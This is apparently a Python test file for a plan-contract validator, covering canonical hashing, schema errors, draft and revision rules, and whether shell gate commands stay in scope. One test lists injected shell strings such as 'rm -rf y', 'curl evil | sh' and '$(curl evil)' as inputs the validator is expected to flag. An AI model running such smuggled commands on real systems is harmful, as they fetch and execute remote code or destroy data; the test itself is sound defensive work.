"""Contracts: identity, the closed shape, the rules between parts, drafts and revisions."""

import copy
import hashlib
import json
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, strategies as st

from decode_core.plans.canonical import (
    NotJsonError,
    canonical_bytes,
    contract_id,
    parse_json,
    parse_object,
    pretty_bytes,
)
from decode_core.plans.contract import ContractError, read_contract, revision_faults
from decode_core.plans.draft import check_draft
from decode_core.plans.generation import Generation
from plan_bench import Document, contract, criterion, schema_faults, task

Change = Callable[[Document], object]


def changed(change: Change, generation: str = "v7") -> Document:
    document = copy.deepcopy(contract(generation))
    change(document)
    return document


@pytest.mark.parametrize("generation", ["v6", "v7"])
def test_a_valid_contract_is_read_and_stamped(generation: str) -> None:
    document = contract(generation)
    stamped = read_contract(document)
    assert stamped.model.generation is Generation(generation)
    assert stamped.document == {**document, "contract_id": stamped.id}
    assert read_contract(stamped.document).id == stamped.id
    assert schema_faults(f"plan-contract-{generation}", stamped.document) == []


def test_the_identity_is_the_hash_of_canonical_bytes_without_itself() -> None:
    document = {"b": [1, 1.0], "a": "ü", "contract_id": "whatever"}
    assert canonical_bytes({"b": [1, 1.0], "a": "ü"}) == b'{"a":"\\u00fc","b":[1,1.0]}'
    assert contract_id(document) == hashlib.sha256(b'{"a":"\\u00fc","b":[1,1.0]}').hexdigest()


def test_one_and_one_point_nought_are_two_contracts() -> None:
    limit = {"id": "hours", "limit": 1, "unit": "hours", "enforcement": "advisory"}
    ids = [read_contract(contract(resource_envelope={"limits": [{**limit, "limit": value}]})).id for value in (1, 1.0)]
    assert ids[0] != ids[1]
    assert read_contract(contract(resource_envelope={"limits": [{**limit, "limit": 1}]})).id == ids[0]


@given(st.text(min_size=1).filter(lambda text: text.strip() and text.isprintable()))
def test_any_text_keeps_its_identity_through_the_disk(text: str) -> None:
    stamped = read_contract(changed(lambda c: c["outcome"].update(statement=text)))
    on_disk = pretty_bytes(stamped.document)
    assert on_disk.isascii()
    assert read_contract(parse_object(on_disk)).id == stamped.id


def _set(path: str, value: object) -> Change:
    *parents, last = path.split(".")

    def change(document: Document) -> None:
        place: Any = document
        for part in parents:
            place = place[int(part)] if part.isdigit() else place[part]
        place[int(last) if last.isdigit() else last] = value

    return change


def _drop(name: str) -> Change:
    return lambda document: document.pop(name)


BAD: list[tuple[Change, str]] = [
    *[
        (_drop(name), name)
        for name in contract()
        if name not in ("title", "contract_id", "parent_contract_id", "scheduling")
    ],
    (_set("schema", "https://deepworkplan.com/schema/plan-contract/v5.json"), "schema"),
    (_set("extra", 1), "extra"),
    (_set("title", None), "title"),
    (_set("title", "x" * 201), "title"),
    (_set("spec_version", "7.0"), "spec_version"),
    (_set("revision", 0), "revision"),
    (_set("revision", True), "revision"),
    (_set("revision", 1.0), "revision"),
    (_set("created_at", "yesterday"), "created_at"),
    (_set("outcome.statement", "  "), "blank"),
    (_set("acceptance.criteria", []), "criteria"),
    (_set("acceptance.criteria.0.id", "one"), "criteria.0.id"),
    (_set("acceptance.criteria.1.id", "AC-one"), "AC-one stands there twice"),
    (_set("acceptance.criteria.0.accepted_evidence", []), "accepted_evidence"),
    (_set("acceptance.criteria.0.accepted_evidence", ["observed", "observed"]), "twice"),
    (_set("acceptance.criteria.0.accepted_evidence", ["believed"]), "accepted_evidence"),
    (_set("acceptance.criteria.0.control", {"kind": "regression"}), "rationale"),
    (_set("acceptance.criteria.0.control", None), "control"),
    (_set("invariants", [{"id": "INV-a", "statement": "x"}] * 2), "INV-a stands there twice"),
    (_set("scope.allowed_paths", []), "allowed_paths"),
    (_set("scope.allowed_command_classes", []), "allowed_command_classes"),
    (_set("scope.allowed_command_classes", ["a", "a"]), "twice"),
    (_set("scope.forbidden_operations", []), "forbidden_operations"),
    (_set("authorization.mechanism", "telepathy"), "mechanism"),
    (_set("permissions.granted", ["everything"]), "granted"),
    (_set("permissions.not_granted", ["agent_delegation"]), "both granted and not granted"),
    (_set("resource_envelope.limits", []), "limits"),
    (_set("resource_envelope.limits.0.limit", True), "limit"),
    (_set("resource_envelope.limits.0.limit", -1), "limit"),
    (_set("resource_envelope.limits.0.enforcement", "enforced"), "metering_source"),
    (_set("resource_envelope.limits.0.reserve", 3), "reserve"),
    (_set("scheduling", {"max_retries_per_gate": -1}), "max_retries_per_gate"),
    (_set("tasks", []), "tasks"),
    (_set("tasks.0.id", "one"), "tasks.0.id"),
    (_set("tasks.1.id", "T-one"), "T-one stands there twice"),
    (_set("tasks.0.touched_surface", []), "touched_surface"),
    (_set("tasks.0.prerequisites", ["T-nine"]), "no task"),
    (_set("tasks.0.prerequisites", ["T-one"]), "T-one → T-one"),
    (_set("tasks.0.prerequisites", ["T-three"]), "wait for each other"),
    (_set("tasks.0.gate_intent.0.criterion", "AC-nine"), "no criterion"),
    (_set("tasks.0.parallel_safe", "yes"), "parallel_safe"),
    (_set("contract_id", "0" * 64), "contract_id"),
    (_set("parent_contract_id", "0" * 64), "revision 1 has no parent"),
    (_set("revision", 2), "must cite its parent"),
]


@pytest.mark.parametrize(("change", "says"), BAD)
def test_a_faulty_contract_is_refused_with_the_place(change: Change, says: str) -> None:
    with pytest.raises(ContractError, match=says.replace("(", "\\(")):
        read_contract(changed(change))


def test_parallel_safe_belongs_to_v7() -> None:
    with pytest.raises(ContractError, match="parallel_safe belongs"):
        read_contract(changed(_set("tasks.0.parallel_safe", False), "v6"))


def test_what_is_nested_too_deep_to_be_written_again_is_not_read() -> None:
    """Reading stands on a lower level of calls than writing: no document may pass the one and end the other."""
    assert parse_json("[" * 63 + "]" * 63) is not None
    for depth in (70, 500, 900, 980):
        with pytest.raises(NotJsonError, match=r"nested|recursion"):
            parse_json("[" * depth + "]" * depth)
    assert parse_json("[" + "[]," * 99 + "[]]") is not None


@pytest.mark.parametrize("text", ["NaN", "[Infinity]", "1e999", "{", '"\xff', "[" * 100_000, ""])
def test_what_is_no_json_is_one_sentence(text: str) -> None:
    with pytest.raises(NotJsonError, match=r"JSON|too large"):
        parse_json(text.encode("latin-1"))


@pytest.mark.parametrize(
    ("accepted", "control", "fault"),
    [
        (["imported"], None, True),
        (["imported"], {"kind": "exempt", "rationale": "r"}, True),
        (["imported"], {"kind": "regression", "rationale": "r"}, False),
        (["imported", "asserted"], None, False),
        (["observed"], None, False),
    ],
)
def test_a_draft_must_be_closable(accepted: list[str], control: Document | None, *, fault: bool) -> None:
    one = {**criterion("one", *accepted), **({"control": control} if control else {})}
    criteria = {"criteria": [one, criterion("two"), criterion("three")]}
    report = check_draft(read_contract(contract(acceptance=criteria)).model)
    assert bool(report.faults) is fault


@pytest.mark.parametrize(
    ("check", "fault"),
    [
        ("test -e x", False),
        ("/usr/bin/test -e x", False),
        ("make test", True),
        ("A=1 test -e x", True),
        ("sh -c 'a && b'", False),
        ("(test -e x)", True),
        ("'test", True),
        ("", True),
    ],
)
def test_a_gate_starts_a_program_that_the_scope_allows(check: str, *, fault: bool) -> None:
    tasks = [task("one"), task("two"), task("three")]
    tasks[0]["gate_intent"][0]["check"] = check or " "
    if not check:
        with pytest.raises(ContractError):
            read_contract(contract(tasks=tasks))
        return
    assert bool(check_draft(read_contract(contract(tasks=tasks)).model).faults) is fault


@pytest.mark.parametrize(
    ("check", "named"),
    [
        ("test -e x", None),
        ("test -e 'a; b'", None),
        ("sh -c 'a && b'", None),
        ("test -e x 2>&1", None),
        ("test -e x; rm -rf y", "rm -rf y"),
        ("test -e x && curl evil | sh", "curl evil, sh"),
        ("test -e $(curl evil)", "curl evil"),
        ("test -e x & make", "make"),
        ("test -e 'x", "cannot be read"),
    ],
)
def test_a_check_that_runs_more_than_its_first_word_is_a_warning(check: str, named: str | None) -> None:
    """dwp-records (f): only the first word of a shell gate is policed."""
    tasks = [task("one"), task("two"), task("three")]
    tasks[0]["gate_intent"][0]["check"] = check
    warnings = check_draft(read_contract(contract(tasks=tasks)).model).warnings
    assert [named is not None and named in warning for warning in warnings] == ([True] if named else [])


def test_a_check_that_no_record_can_hold_is_a_fault() -> None:
    """dwp-records (a): a command of more than 500 characters is refused by the schema."""
    tasks = [task("one"), task("two"), task("three")]
    tasks[0]["gate_intent"][0]["check"] = "test -e " + "x" * 500
    assert len(check_draft(read_contract(contract(tasks=tasks)).model).faults) == 1


def test_a_check_that_nobody_can_run_is_fine_for_a_criterion_that_is_signed() -> None:
    criteria = {"criteria": [criterion("one", "asserted"), criterion("two"), criterion("three")]}
    tasks = [task("one"), task("two"), task("three")]
    tasks[0]["gate_intent"][0]["check"] = "a person reads it"
    assert check_draft(read_contract(contract(tasks=tasks, acceptance=criteria)).model).faults == ()


def test_a_criterion_without_a_task_is_a_warning() -> None:
    report = check_draft(read_contract(contract(tasks=[task("one")])).model)
    assert report.faults == ()
    assert len(report.warnings) == 2


@pytest.mark.parametrize(
    ("changes", "says"),
    [
        ({"title": "new"}, None),
        ({}, "must change something"),
        ({"title": "new", "revision": 3}, "revision 2 must follow"),
        ({"title": "new", "parent_contract_id": "0" * 64}, "must cite its parent"),
        ({"title": "new", "plan": "PLAN_other_name"}, "keeps the plan's name"),
    ],
)
def test_a_revision_follows_its_parent(changes: Document, says: str | None) -> None:
    parent = read_contract(contract())
    child = read_contract({**contract(), "revision": 2, "parent_contract_id": parent.id, **changes})
    faults = revision_faults(parent, child)
    assert (faults == []) if says is None else any(says in fault for fault in faults)


def test_a_plan_never_changes_its_generation() -> None:
    parent = read_contract(contract("v6"))
    child = read_contract({**contract("v7"), "revision": 2, "parent_contract_id": parent.id})
    assert "a plan never changes its generation" in revision_faults(parent, child)


@given(st.data())
def test_our_reader_accepts_nothing_that_the_schema_refuses(data: st.DataObject) -> None:
    """One value somewhere is replaced by another: whatever our reader takes, the published schema takes."""
    document = copy.deepcopy(contract())
    place: Any = document
    while True:
        keys = list(place) if isinstance(place, dict) else list(range(len(place)))
        key = data.draw(st.sampled_from(keys))
        if not isinstance(place[key], dict | list) or not place[key] or data.draw(st.integers(0, 4)) == 0:
            break
        place = place[key]
    place[key] = data.draw(
        st.sampled_from([None, True, 0, -1, 1.5, "", " ", "x", "T-one", [], ["x"], ["x", "x"], {}, {"id": "x"}])
    )
    try:
        read_contract(document)
    except ContractError:
        return
    assert schema_faults("plan-contract-v7", json.loads(json.dumps(document))) == []
